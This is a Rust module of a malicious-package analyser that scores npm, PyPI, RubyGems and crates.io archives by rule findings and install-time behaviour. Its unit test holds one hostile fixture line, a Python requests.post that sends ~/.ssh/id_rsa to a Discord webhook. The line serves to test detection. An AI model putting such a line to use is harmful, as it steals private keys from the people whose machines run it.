//! The package analyser: is this npm, PyPI, RubyGems or crates.io archive malicious, which of
//! its files, and why?
//!
//! A package is read as data ([`package`], through `scioc-ingest`'s hostile-archive reader and
//! its limits; nothing is extracted or run), each file holding code is reduced to facts by a
//! real parser ([`facts`]: `oxc` for JavaScript and TypeScript, RustPython's for Python, a
//! command reader for shell, batch and PowerShell), the [`rules`] match those facts, and the
//! [`verdict`] weighs what matched by where it runs (install, import, neither) and what it
//! reaches within the file. The result ([`Analysis`]) names each malicious file with its
//! hashes, a threat name in the feed's spelling (`Script-JS.Downloader.SupplyChain`) and a
//! level, the evidence for every finding and the indicators found.

pub mod candidates;
pub mod facts;
pub mod package;
pub mod rules;
pub mod sample;
pub mod sarif;
pub mod verdict;

use package::{FileKind, Hashes, Package, SourceFile};
use rules::{Ctx, Kind, Place};
use serde::Serialize;
pub use verdict::Verdict;

/// Longest excerpt of evidence, in characters.
const EXCERPT: usize = 160;

/// Why a package could not be analysed.
#[derive(Debug, thiserror::Error)]
pub enum AnalyzeError {
    /// Its name is not an archive kind the analyser reads.
    #[error("{path}: expected a directory or an archive named *.tgz, *.tar.gz, *.zip, *.whl, *.gem or *.crate")]
    Kind {
        /// The path given.
        path: String,
    },
    /// It could not be read.
    #[error("{path}: {reason}")]
    Read {
        /// The path.
        path: String,
        /// Why.
        reason: String,
    },
    /// The archive reader refused it (hostile paths, a bomb, not an archive).
    #[error("{reason}")]
    Archive {
        /// The archive.
        path: String,
        /// The reader's reason, naming the archive.
        reason: String,
    },
}

/// One finding: a rule that matched, where, and what it saw.
#[derive(Debug, Clone, Serialize)]
pub struct Finding {
    /// The rule's stable id (`SA-007`).
    pub rule: &'static str,
    /// The rule's name.
    pub name: &'static str,
    /// Capability or threat.
    pub kind: Kind,
    /// The file, as the archive names it.
    pub file: String,
    /// 1-based line.
    pub line: u32,
    /// What matched: one line, bounded, secret-shaped words masked
    /// ([`scioc_model::redact::evidence`]).
    pub excerpt: String,
}

/// A malicious file, as a feed entry's `sample_list` holds it.
#[derive(Debug, Clone, Serialize)]
pub struct MaliciousFile {
    /// Its path in the archive.
    pub path: String,
    /// Its hashes (absent for an npm lifecycle script, which lives in `package.json`).
    #[serde(flatten)]
    pub hashes: Option<Hashes>,
    /// `<FileType>.<Behaviour>.SupplyChain`.
    pub threat_name: String,
    /// 1 (least) to 5.
    pub threat_level: u8,
    /// Its score.
    pub score: u32,
}

/// Indicators extracted from the findings.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Indicators {
    /// Hosts named by URLs the findings cite.
    pub domains: Vec<String>,
    /// URLs the findings cite.
    pub urls: Vec<String>,
    /// IP addresses the findings cite.
    pub ips: Vec<String>,
    /// Messenger webhooks.
    pub webhooks: Vec<String>,
    /// Dependencies from URLs or git.
    pub dependencies: Vec<String>,
    /// Install scripts' command lines.
    pub scripts: Vec<String>,
}

/// What the analyser says of one package.
#[derive(Debug, Clone, Serialize)]
pub struct Analysis {
    /// The archive or directory.
    pub path: String,
    /// Its ecosystem.
    pub ecosystem: package::Ecosystem,
    /// Its name, from its manifest.
    pub name: Option<String>,
    /// Its version.
    pub version: Option<String>,
    /// The archive's SHA-256.
    pub sha256: Option<String>,
    /// The verdict.
    pub verdict: Verdict,
    /// The worst file's score.
    pub score: u32,
    /// The worst file's threat name, when not clean.
    pub threat_name: Option<String>,
    /// Its threat level.
    pub threat_level: Option<u8>,
    /// The malicious files.
    pub files: Vec<MaliciousFile>,
    /// Every finding, worst file first.
    pub findings: Vec<Finding>,
    /// Indicators found.
    pub indicators: Indicators,
    /// Files analysed in part or not parsed, with why.
    pub notes: Vec<String>,
}

/// The facts of one file, by its kind.
pub(crate) fn facts_of(file: &SourceFile) -> facts::Facts {
    match file.kind {
        FileKind::JavaScript => {
            let mut f = facts::js::facts(&file.path, &file.text);
            if !f.parsed {
                facts::text::code(&file.text, &mut f);
            }
            f
        }
        FileKind::Python => python(file),
        FileKind::Pth if file.text.contains("import") => python(file),
        FileKind::Shell | FileKind::Batch | FileKind::PowerShell | FileKind::NpmScript => {
            facts::text::shell(&file.text)
        }
        FileKind::Pth | FileKind::Manifest | FileKind::Other => facts::Facts::default(),
    }
}

fn python(file: &SourceFile) -> facts::Facts {
    let mut f = facts::python::facts(&file.path, &file.text);
    if !f.parsed {
        facts::text::code(&file.text, &mut f);
    }
    f
}

/// Analyses an archive or directory.
pub fn analyze_path(path: &std::path::Path, limits: scioc_ingest::archive::Limits) -> Result<Analysis, AnalyzeError> {
    Package::read(path, limits).map(|p| analyze(&p))
}

/// Analyses a package read with [`Package::read`] or [`Package::read_archive`].
pub fn analyze(package: &Package) -> Analysis {
    let mut notes = Vec::new();
    let natives: Vec<String> =
        package.hashes.iter().map(|(p, _)| p.clone()).filter(|p| package::is_native(p)).collect();
    // What the package's name and manifest say: counted on each file that acts at install.
    let of_package: Vec<rules::Hit> = rules::PACKAGE.iter().filter_map(|(_, check)| check(package)).collect();
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get()).min(8);
    let judged = judge_files(package, &natives, &of_package, threads);
    let mut package_counted = false;
    let mut per_file = Vec::new();
    for (i, j) in judged.into_iter().enumerate() {
        notes.extend(j.notes);
        if let Some((hits, score, behaviour, with_package)) = j.judged {
            package_counted |= with_package;
            per_file.push((&package.files[i], hits, score, behaviour));
        }
    }
    install_sends_secrets(package, &mut per_file);
    // No file acts at install: the package's findings stand on its manifest alone.
    let manifest = SourceFile::new(&manifest_path(package), Vec::new(), false);
    if !package_counted && !of_package.is_empty() {
        let (score, behaviour) = verdict::score(&of_package, Place::default());
        per_file.push((&manifest, of_package.clone(), score, behaviour));
    }
    per_file.sort_by(|a, b| b.2.cmp(&a.2).then_with(|| a.0.path.cmp(&b.0.path)));

    let mut indicators = Indicators::default();
    let mut findings = Vec::new();
    let mut files = Vec::new();
    for (file, hits, score, behaviour) in &per_file {
        for h in hits {
            findings.push(Finding {
                rule: h.rule.id,
                name: h.rule.name,
                kind: h.rule.kind,
                file: file.path.clone(),
                line: h.line,
                excerpt: scioc_model::redact::evidence(&h.what, EXCERPT),
            });
            if let Some(i) = &h.indicator {
                add_indicator(&mut indicators, h.rule.id, i);
            }
        }
        if verdict::of(*score) == Verdict::Malicious {
            files.push(malicious_file(package, file, *score, *behaviour));
        }
    }
    for f in package.files.iter().filter(|f| f.kind == FileKind::NpmScript) {
        indicators.scripts.push(one_line(&f.text));
    }
    for (name, source) in &package.url_dependencies {
        indicators.dependencies.push(format!("{name}@{source}"));
    }
    let top = per_file.first();
    let mut score = top.map_or(0, |t| t.2);
    // Threats split across files (a stealer's webhook in one, its reading in another) add up
    // for the package: each threat rule once, undoubled, when two or more kinds meet.
    let across = verdict::across(per_file.iter().flat_map(|(_, hits, _, _)| hits.iter()));
    if across > score && verdict::of(across) == Verdict::Malicious && files.is_empty() {
        score = across;
        for (file, hits, file_score, behaviour) in &per_file {
            if hits.iter().any(|h| h.rule.kind == Kind::Threat) {
                files.push(malicious_file(package, file, *file_score, *behaviour));
            }
        }
    }
    let verdict = verdict::of(score);
    let (threat_name, threat_level) = match (verdict, top) {
        (Verdict::Clean, _) | (_, None) => (None, None),
        (_, Some((file, _, _, behaviour))) => {
            let b = behaviour.unwrap_or(scioc_model::Behaviour::Unknown);
            (Some(threat_name(file.kind, b)), Some(b.level()))
        }
    };
    Analysis {
        path: package.source.clone(),
        ecosystem: package.ecosystem,
        name: package.name.clone(),
        version: package.version.clone(),
        sha256: package.sha256.clone(),
        verdict,
        score,
        threat_name,
        threat_level,
        files,
        findings,
        indicators,
        notes,
    }
}

/// What one file came to: notes on how it was read, and its hits, score and behaviour (and
/// whether the package-wide hits were counted on it) when any rule matched.
struct Judged {
    notes: Vec<String>,
    judged: Option<(Vec<rules::Hit>, u32, Option<scioc_model::Behaviour>, bool)>,
}

/// Below this many bytes of code a package's files are judged on the calling thread.
const PARALLEL_FROM: usize = 512 * 1024;

/// Judges every file of the package, in the archive's order, on `threads` threads (the
/// machine's cores, at most 8) once the package holds enough code to be worth it: parsing
/// dominates, and files are independent until their findings are weighed together.
fn judge_files(package: &Package, natives: &[String], of_package: &[rules::Hit], threads: usize) -> Vec<Judged> {
    let judge = |file: &SourceFile| judge_file(package, file, natives, of_package);
    let bytes: usize = package.files.iter().map(|f| f.text.len()).sum();
    if threads < 2 || bytes < PARALLEL_FROM || package.files.len() < 2 {
        return package.files.iter().map(judge).collect();
    }
    let next = std::sync::atomic::AtomicUsize::new(0);
    let done: Vec<(usize, Judged)> = std::thread::scope(|scope| {
        let workers: Vec<_> = (0..threads)
            .map(|_| {
                scope.spawn(|| {
                    let mut mine = Vec::new();
                    loop {
                        let i = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                        let Some(file) = package.files.get(i) else { break mine };
                        mine.push((i, judge(file)));
                    }
                })
            })
            .collect();
        // A worker that panicked (a parser bug) loses only its own files' findings, as the
        // sequential path would lose the whole analysis; the others' stand.
        workers.into_iter().flat_map(|w| w.join().unwrap_or_default()).collect()
    });
    let mut by_index: Vec<Option<Judged>> = package.files.iter().map(|_| None).collect();
    for (i, j) in done {
        by_index[i] = Some(j);
    }
    by_index
        .into_iter()
        .zip(&package.files)
        .map(|(j, file)| {
            j.unwrap_or_else(|| Judged {
                notes: vec![format!("{}: the analyser failed on this file; not analysed", file.path)],
                judged: None,
            })
        })
        .collect()
}

/// Reads one file's facts, matches the rules and weighs what matched where the file runs.
fn judge_file(package: &Package, file: &SourceFile, natives: &[String], of_package: &[rules::Hit]) -> Judged {
    let mut notes = Vec::new();
    if file.truncated {
        notes.push(format!("{}: longer than {} bytes; analysed in part", file.path, package::MAX_FILE));
    }
    let place = Place {
        install: file.kind == FileKind::NpmScript || package.install_files.contains(&file.path),
        import: package.import_files.contains(&file.path),
    };
    // Tests, examples and documentation do not run at install or import: security tests are
    // full of attack strings. They are read only when the install or import runs them; so is
    // code in another language than the package's.
    if !package.is_read(file) {
        return Judged { notes, judged: None };
    }
    let facts = facts_of(file);
    if let Some(e) = &facts.parse_error
        && !facts.parsed
    {
        notes.push(format!("{}: not parsed ({}); read as text", file.path, e.lines().next().unwrap_or("")));
    }
    let mut hits = rules::check(&Ctx { file, facts: &facts, place, natives });
    if hits.is_empty() {
        return Judged { notes, judged: None };
    }
    let with_package = place.install && !of_package.is_empty();
    if with_package {
        hits.extend(of_package.iter().cloned());
    }
    verdict::correlate(&mut hits, place);
    let (score, behaviour) = verdict::score(&hits, place);
    Judged { notes, judged: Some((hits, score, behaviour, with_package)) }
}

/// What the install runs acts as one program: secrets one of its files reads (a lifecycle
/// script listing `~/.ssh`, a module naming browser stores) are sent, and a detached process
/// one starts is hidden, when another of its files reaches the network. Each such file gets
/// the correlation, as if the install were one file.
fn install_sends_secrets(package: &Package, per_file: &mut [FileVerdict<'_>]) {
    let install = |f: &SourceFile| f.kind == FileKind::NpmScript || package.install_files.contains(&f.path);
    let network = ["SA-002", "SA-011", "SA-012", "SA-013", "SA-030"];
    let sends = per_file.iter().any(|(f, hits, ..)| install(f) && hits.iter().any(|h| network.contains(&h.rule.id)));
    if !sends {
        return;
    }
    for (file, hits, score, behaviour) in per_file.iter_mut().filter(|(f, ..)| install(f)) {
        let place = Place { install: true, import: package.import_files.contains(&file.path) };
        // A detached, silent process an npm lifecycle script starts, when what the scripts run
        // reaches out. (A `setup.py` build's path is wider than what runs: it holds what the
        // setup imports for a version, so it is not read as one program for this.)
        let has = |id: &str| hits.iter().find(|h| h.rule.id == id).map(|h| h.line);
        if package.ecosystem == package::Ecosystem::Npm
            && let (None, Some(line), Some(_)) = (has(verdict::HIDDEN_AT_INSTALL.id), has("SA-010"), has("SA-003"))
        {
            hits.push(rules::Hit::new(
                &verdict::HIDDEN_AT_INSTALL,
                line,
                "starts a detached process at install, and what the install runs reaches the network",
            ));
            (*score, *behaviour) = verdict::score(hits, place);
        }
        if hits.iter().any(|h| h.rule.id == verdict::SENDS_SECRETS.id) {
            continue;
        }
        let Some(line) = hits.iter().find(|h| matches!(h.rule.id, "SA-014" | "SA-005")).map(|h| h.line) else {
            continue;
        };
        hits.push(rules::Hit::new(
            &verdict::SENDS_SECRETS,
            line,
            "reads secrets where the install runs, and what the install runs reaches the network",
        ));
        (*score, *behaviour) = verdict::score(hits, place);
    }
}

/// One file's findings, score and the behaviour they point to.
type FileVerdict<'a> = (&'a SourceFile, Vec<rules::Hit>, u32, Option<scioc_model::Behaviour>);

/// The manifest's path in the archive: `package.json`, `PKG-INFO`, a wheel's `METADATA`, …
fn manifest_path(package: &Package) -> String {
    let names = ["package.json", "PKG-INFO", "METADATA", "Cargo.toml", "metadata.gz", "setup.py", "pyproject.toml"];
    names
        .iter()
        .find_map(|n| {
            package
                .hashes
                .iter()
                .map(|(p, _)| p)
                .filter(|p| p.rsplit('/').next() == Some(n))
                .min_by_key(|p| p.matches('/').count())
        })
        .cloned()
        .unwrap_or_else(|| format!("{}package metadata", package.root))
}

/// `<FileType>.<Behaviour>.SupplyChain`, as the feed names samples.
fn threat_name(kind: FileKind, behaviour: scioc_model::Behaviour) -> String {
    format!("{}.{}.SupplyChain", kind.threat_type(), behaviour.threat_word())
}

/// A file named malicious: its hashes (an npm script's are its manifest's), threat name and
/// level.
fn malicious_file(
    package: &Package,
    file: &SourceFile,
    score: u32,
    behaviour: Option<scioc_model::Behaviour>,
) -> MaliciousFile {
    let behaviour = behaviour.unwrap_or(scioc_model::Behaviour::Unknown);
    let hash_path = file.path.split('#').next().unwrap_or(&file.path);
    MaliciousFile {
        path: file.path.clone(),
        hashes: package.hashes.iter().find(|(p, _)| p == hash_path).map(|(_, h)| h.clone()),
        threat_name: threat_name(file.kind, behaviour),
        threat_level: behaviour.level(),
        score,
    }
}

fn add_indicator(ind: &mut Indicators, rule: &str, value: &str) {
    let value = one_line(value);
    let push = |list: &mut Vec<String>, v: String| {
        if !list.contains(&v) && list.len() < 100 {
            list.push(v);
        }
    };
    if rule == "SA-011" {
        push(&mut ind.webhooks, value.clone());
    }
    if let Some(rest) = value.split_once("://").map(|(_, r)| r) {
        let host: String = rest.chars().take_while(|c| !matches!(c, '/' | ':' | '?' | '#')).collect();
        push(&mut ind.urls, value.clone());
        if host.parse::<std::net::IpAddr>().is_ok() {
            push(&mut ind.ips, host);
        } else if !host.is_empty() {
            push(&mut ind.domains, host.to_ascii_lowercase());
        }
    }
}

/// A regex whose `\w`, `\s` and `\d` are ASCII: code's names and the separators between them
/// are, and Unicode's classes make each regex cost tens of milliseconds to build, paid by
/// every `scioc analyze` process.
pub(crate) fn ascii_regex(pattern: &str) -> Result<regex::Regex, regex::Error> {
    let ascii = pattern.replace(r"\w", "[0-9A-Za-z_]").replace(r"\s", r"[\t\n\x0B\x0C\r ]").replace(r"\d", "[0-9]");
    regex::Regex::new(&ascii)
}

/// Whether a path is a test, an example or documentation.
pub(crate) fn inert(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let mut parts = lower.split('/');
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    parts.any(|p| {
        matches!(
            p,
            "test"
                | "tests"
                | "testing"
                | "__tests__"
                | "__test__"
                | "spec"
                | "example"
                | "examples"
                | "docs"
                | "doc"
                | ".github"
                | "benchmarks"
                | "bench"
                | "fixtures"
                | "__fixtures__"
                | "e2e"
        )
    }) || name.starts_with("test_")
        || name.ends_with("_test.py")
        || name.ends_with(".test.js")
        || name.ends_with(".test.ts")
        || name.ends_with(".spec.js")
        || name.ends_with(".spec.ts")
        || name == "conftest.py"
}

/// One line, bounded, with control characters shown as spaces.
fn one_line(s: &str) -> String {
    let line: String = s.chars().map(|c| if c.is_control() { ' ' } else { c }).take(EXCERPT).collect();
    if s.chars().count() > EXCERPT { format!("{line}…") } else { line }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Files judged on many threads come back in the archive's order with the same findings
    /// and notes as on one.
    #[test]
    fn judging_on_threads_keeps_the_order_and_the_findings() {
        let filler = "def f(x):\n    return x + 1\n".repeat(2_000);
        let mut files = Vec::new();
        for i in 0..40 {
            let text = match i % 10 {
                3 => "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n".to_owned(),
                7 => "print 'python 2'\n".to_owned(),
                _ => filler.clone(),
            };
            files.push(SourceFile::new(&format!("pkg/m{i:02}.py"), text.into_bytes(), false));
        }
        let package = Package::new("t".into(), package::Ecosystem::PyPI, files);
        type Summary = (Vec<String>, Option<(Vec<&'static str>, u32)>);
        let summary = |js: Vec<Judged>| -> Vec<Summary> {
            js.into_iter()
                .map(|j| (j.notes, j.judged.map(|(h, s, _, _)| (h.iter().map(|h| h.rule.id).collect(), s))))
                .collect()
        };
        let one = summary(judge_files(&package, &[], &[], 1));
        let four = summary(judge_files(&package, &[], &[], 4));
        assert_eq!(one.len(), 40);
        assert!(one[3].1.as_ref().is_some_and(|(rules, _)| rules.contains(&"SA-014")), "{:?}", one[3]);
        assert!(one[7].0.iter().any(|n| n.contains("not parsed")), "{:?}", one[7]);
        assert_eq!(one, four);
    }
}
